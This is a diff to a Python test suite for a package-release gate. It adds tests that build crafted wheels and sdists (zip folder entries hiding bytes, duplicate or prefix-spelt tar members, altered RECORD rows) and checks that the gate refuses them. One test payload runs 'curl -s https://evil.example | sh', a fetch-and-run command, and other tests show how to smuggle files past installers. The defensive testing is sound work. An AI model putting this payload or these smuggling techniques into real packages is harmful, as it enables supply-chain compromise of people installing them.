@@ -13,12 +13,15 @@ Classes (each test is named after the attack it makes):
    end, a link target on a file, an xstar trailer, pax headers empty or setting a record twice; what zipfile (pip)
    refuses and uv reads: a version needed to extract above 6.3; entry_points.txt
    lines its readers read differently; RECORD rows that installers read differently or that uninstalling would follow
-   out of the environment; control characters in metadata);
+   out of the environment, or that installer's record validation refuses; a zip folder entry storing bytes behind a
+   declared size of 0; control characters in metadata);
 4. bombs and crashes (bzip2 and lzma members, deflate members larger than declared or huge, YAML alias
    bombs in a package or ``--tracked``, 100,000 members, numbers of thousands of digits);
 5. names that alias on other file systems (trailing dots and spaces, NTFS streams, 8.3 names, case, NFC/NFD);
 6. an sdist whose build configuration, tar structure, member types tarfile unpacks its own way (a global pax
-   header, GNU sparse and contiguous members, an old-style folder entry) or member modes would change what ships;
+   header, GNU sparse and contiguous members, an old-style folder entry), member spellings tarfile names alike (a
+   duplicate, a folder of a file's name, a name spelt across the ustar prefix) or member modes would change what
+   ships;
 7. wheel metadata that lies (Requires-Dist, console scripts, entry point groups, WHEEL's purelib and tag), and
    dist file names that spell the release otherwise;
 8. reports drowned in findings.
@@ -162,6 +165,8 @@ LOCATIONS = {  # attack -> the member planted ({v}: the version), holding altere
     ".data/scripts": "neurobrix-{v}.data/scripts/neurobrix-admin",
     ".data/headers": "neurobrix-{v}.data/headers/neurobrix.h",
     "another project's .data (pip reads any)": "other-1.0.data/purelib/neurobrix/_tables/{table}",
+    # installer takes a member for the .data folder's by a character-wise common prefix: .datafoo/purelib/ is purelib
+    "a folder named like the .data one and longer": "neurobrix-{v}.datafoo/purelib/neurobrix/_tables/{table}",
     "another top-level package": "evil/__init__.py",
     "sitecustomize": "sitecustomize.py",
     "an untracked module in the package": "neurobrix/ops/planted.py",
@@ -443,6 +448,24 @@ def test_a_version_needed_that_zipfile_cannot_open_is_refused_by_the_gate_itself
     assert "version needed to extract 12.6" in refused_with(report, "G313", TABLE.wheel_path).message
     wheel.write_bytes(needing(built, 0x0314))  # the high byte, which zipfile reads as reserved: 2.0 to every reader
     assert judge(wheel).passed
+
+
+PAYLOAD = b"import os; os.system('curl -s https://evil.example | sh')\n"
+FOLDER_PAYLOADS = {  # twelfth round: a folder entry with a declared size of 0 whose stored bytes were never read
+    "a deflate stream of code behind a declared size of 0": {"compressed": zlib.compress(PAYLOAD, 9)[2:-4], "crc": 0},
+    "a stored folder with the CRC of other bytes": {"method": zipfile.ZIP_STORED, "crc": zlib.crc32(PAYLOAD)},
+}
+
+
+@pytest.mark.parametrize("attack", list(FOLDER_PAYLOADS))
+def test_a_folder_entry_must_store_an_empty_member(built: Built, tmp_path: Path, attack: str) -> None:
+    """A folder is never read by pip or installer (both install the wheel as without it), so the gate never read one
+    either: a folder entry declaring 0 bytes passed with a deflate stream of any content behind it, or with the CRC of
+    other bytes, which `unzip -t` reads (a bad CRC: a damaged wheel) and which carry a payload into the upload."""
+    folder = RawMember(b"neurobrix/", b"", size=0, mode=stat.S_IFDIR | 0o755, **FOLDER_PAYLOADS[attack])  # type: ignore[arg-type]
+    wheel = write_wheel(built, tmp_path, [folder, *wheel_members(built.wheel)])
+    report = judge(wheel)
+    assert "not an empty member" in refused_with(report, "G304", "neurobrix/", built.wheel.name).message
 
 
 def test_executable_mode_behind_a_dos_host_byte_is_seen(built: Built, tmp_path: Path) -> None:
@@ -1086,6 +1109,19 @@ def test_sdist_gzip_header_crc_is_refused(built: Built, tmp_path: Path) -> None:
     assert "header CRC" in refused_with(judge(sdist), "G313", None, built.sdist.name).message
 
 
+def test_sdist_gzip_header_with_reserved_flags_is_a_finding(built: Built, tmp_path: Path) -> None:
+    """Reserved gzip flag bits: Python's gzip (pip's and twine's tarfile) ignores them and unpacks the sdist, zlib
+    refuses the stream. The gate answered exit 2, "not a gzip stream, so not an sdist"; it is an sdist pip installs,
+    so it is refused as one (exit 1, a finding on the dist)."""
+    sdist = tmp_path / built.sdist.name
+    data = bytearray(built.sdist.read_bytes())
+    data[3] |= 0x20
+    sdist.write_bytes(bytes(data))
+    with tarfile.open(sdist) as unpacked:  # what pip unpacks
+        assert len(unpacked.getmembers()) == len(sdist_members(built.sdist))
+    assert "reserved flag bits" in refused_with(judge(sdist), "G313", None, built.sdist.name).message
+
+
 # attack -> (the member planted, the finding, what tarfile makes of it)
 TARFILE_READS_OTHERWISE: dict[str, tuple[Callable[[Built], RawTarMember], str, str]] = {
     "a global pax header": (
@@ -1120,6 +1156,59 @@ def test_sdist_member_types_tarfile_unpacks_its_own_way_are_refused(built: Built
             assert shown.isdir() if reads == "dir" else shown.isreg()
     report = judge(write_sdist(tmp_path / built.sdist.name, tar))
     refused_with(report, code, planted.name, built.sdist.name)
+
+
+def with_prefix(tar: bytes, name: str) -> bytes:
+    """``tar`` with the member ``name`` spelt across its ustar header's prefix and name fields (cut at /tables/)."""
+    data = bytearray(tar)
+    at = 0
+    while data[at : at + 100].rstrip(b"\0").decode() != name:
+        at += 512 + -(-int(data[at + 124 : at + 136].strip(b"\0 "), 8) // 512) * 512
+    prefix, _, rest = name.rpartition("/tables/")
+    data[at : at + 100] = f"tables/{rest}".encode().ljust(100, b"\0")
+    data[at + 345 : at + 500] = prefix.encode().ljust(155, b"\0")
+    return bytes(checksummed_header(data, at))
+
+
+def checksummed_header(data: bytearray, at: int) -> bytearray:
+    data[at + 148 : at + 156] = b" " * 8
+    data[at + 148 : at + 156] = b"%06o\x00 " % sum(data[at : at + 512])
+    return data
+
+
+# twelfth round: how tarfile (pip) names and unpacks members, each read so by the gate (already refused)
+TAR_SPELLINGS = {
+    "an altered copy of a table before the table": ("before", "G305"),
+    "an altered copy of a table after the table (tarfile unpacks the last)": ("after", "G305"),
+    "a folder of a file's name": ("folder", "G305"),
+    "an altered table spelt across the ustar prefix": ("prefix", "G503"),
+}
+
+
+@pytest.mark.parametrize("attack", list(TAR_SPELLINGS))
+def test_sdist_members_tarfile_names_alike_are_judged_alike(built: Built, tmp_path: Path, attack: str) -> None:
+    how, code = TAR_SPELLINGS[attack]
+    name = f"{built.root}/tables/{TABLE.path}"
+    members = sdist_members(built.sdist)
+    altered = RawTarMember(name, altered_table(built))
+    if how == "before":
+        members.insert(0, altered)
+    elif how == "after":
+        members.append(altered)
+    elif how == "folder":
+        members.append(RawTarMember(f"{name}/", b"", tarfile.DIRTYPE, mode=0o755))
+    else:
+        members = [altered if m.name == name else m for m in members]
+    tar = raw_tar(members)
+    if how == "prefix":
+        tar = with_prefix(tar, name)
+    with tarfile.open(fileobj=io.BytesIO(tar)) as unpacked:  # what pip unpacks: both copies, the last one kept
+        named = [m for m in unpacked.getmembers() if m.name == name]
+        assert len(named) == (1 if how == "prefix" else 2)
+        if how in ("after", "prefix"):
+            assert unpacked.extractfile(named[-1]).read() == altered.data  # type: ignore[union-attr]
+    report = judge(write_sdist(tmp_path / built.sdist.name, tar))
+    refused_with(report, code, name if how != "folder" else f"{name}/", built.sdist.name)
 
 
 def test_wheel_mode_with_executable_bits_and_no_file_type_is_judged_executable(built: Built, tmp_path: Path) -> None:
@@ -1378,6 +1467,36 @@ def test_record_rows_installers_read_differently_are_refused(
     member(members, path).data = text.replace(row, edit(row), 1).encode()  # type: ignore[operator]
     report = judge(write_wheel(built, tmp_path, members))
     assert [f for f in report.findings if f.code == "G206" and said in f.message], report.findings
+
+
+RECORD_VALIDATION = {  # twelfth round: rows pip and uv read unchecked, installer's record validation refuses
+    "RECORD's own row left out": (lambda rec, text: text.replace(f"{rec},,\n", ""), "G202", "record validation"),
+    "RECORD's own row with a size": (lambda rec, text: text.replace(f"{rec},,", f"{rec},,1234"), "G206", "neither"),
+    "a row without the file's size": (
+        lambda rec, text: re.sub(r"(neurobrix/cli\.py,sha256=[^,]+),[0-9]+", r"\1,", text),
+        "G206",
+        "no size",
+    ),
+}
+
+
+@pytest.mark.parametrize("attack", list(RECORD_VALIDATION))
+def test_record_rows_installers_validation_refuses_are_refused(built: Built, tmp_path: Path, attack: str) -> None:
+    """installer's record validation (which Poetry runs before it installs) wants every member listed with its hash
+    and size, RECORD itself with neither; the gate let RECORD go unlisted or list a size nobody checked (1234 bytes
+    here), and a row give no size at all, so it passed wheels that installer refuses."""
+    from installer.sources import WheelFile
+
+    edit, code, said = RECORD_VALIDATION[attack]
+    path = f"{built.dist_info}/RECORD"
+    members = wheel_members(built.wheel)
+    record = member(members, path)
+    record.data = edit(path, record.data.decode()).encode()  # type: ignore[operator]
+    wheel = write_wheel(built, tmp_path, members)
+    with WheelFile.open(wheel) as source, pytest.raises(ValueError, match="RECORD"):
+        source.validate_record()
+    report = judge(wheel)
+    assert said in refused_with(report, code, path if code == "G202" or "own" in attack else "neurobrix/cli.py").message
 
 
 @pytest.mark.parametrize("spelling", ["version", "name"])
